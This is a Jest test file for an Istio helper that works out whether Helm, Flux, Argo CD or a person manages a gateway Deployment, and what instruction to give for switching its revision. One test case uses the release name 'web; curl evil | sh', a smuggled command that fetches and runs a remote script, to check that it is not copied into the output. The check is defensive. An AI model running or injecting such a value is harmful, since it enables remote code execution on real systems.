import { describe, expect, test } from '@jest/globals';
import type { Metadata } from '../../../src/cluster/objects.ts';
import { templateOwnerOf, valueToChange } from '../../../src/istio/template-owner.ts';

const HELM = {
  labels: { 'app.kubernetes.io/managed-by': 'Helm', 'helm.sh/chart': 'gateway-1.30.3' },
  annotations: { 'meta.helm.sh/release-name': 'web', 'meta.helm.sh/release-namespace': 'edge' },
};
const OTHER = { ...HELM, labels: { ...HELM.labels, 'helm.sh/chart': 'gateway-api-thing-1.0.0' } };

const told = (metadata: Partial<Metadata>): string =>
  valueToChange(
    { kind: 'Deployment', namespace: 'edge', name: 'ingress' },
    templateOwnerOf({ name: 'ingress', namespace: 'edge', ...metadata }),
    '1-31-0',
  );

describe('the one value that makes a template choose another revision, where it is kept', () => {
  test.each<[string, Partial<Metadata>, string]>([
    [
      'Istio’s chart for gateways, by Helm',
      HELM,
      'helm upgrade web istio/gateway -n edge --reuse-values --set revision=1-31-0',
    ],
    [
      'another chart, by Helm',
      OTHER,
      'Helm release edge/web keeps Deployment edge/ingress: set the label istio.io/rev of its pod template to 1-31-0 in the values of its chart',
    ],
    [
      'the chart by Flux, which leaves it to Helm',
      { ...HELM, labels: { ...HELM.labels, 'helm.toolkit.fluxcd.io/name': 'web' } },
      'Flux keeps Deployment edge/ingress: set the value revision of its chart to 1-31-0 in Git (Helm release edge/web)',
    ],
    [
      'the chart by Argo CD, which renders it itself',
      { labels: HELM.labels, annotations: { 'argocd.argoproj.io/tracking-id': 'x' } },
      'Argo CD keeps Deployment edge/ingress: set the value revision of its chart to 1-31-0 in Git',
    ],
    [
      'plain YAML by Argo CD',
      { annotations: { 'argocd.argoproj.io/tracking-id': 'x' } },
      'Argo CD keeps Deployment edge/ingress: set the label istio.io/rev of its pod template to 1-31-0 in Git',
    ],
    [
      'a release that is no name is none: the command is copied',
      { annotations: { 'meta.helm.sh/release-name': 'web; curl evil | sh' } },
      'Change the label istio.io/rev of its template to 1-31-0: kubectl edit deployment ingress -n edge',
    ],
    [
      'by hand',
      {},
      'Change the label istio.io/rev of its template to 1-31-0: kubectl edit deployment ingress -n edge',
    ],
  ])('%s', (_, metadata, expected) => {
    expect(told(metadata)).toBe(expected);
  });
});
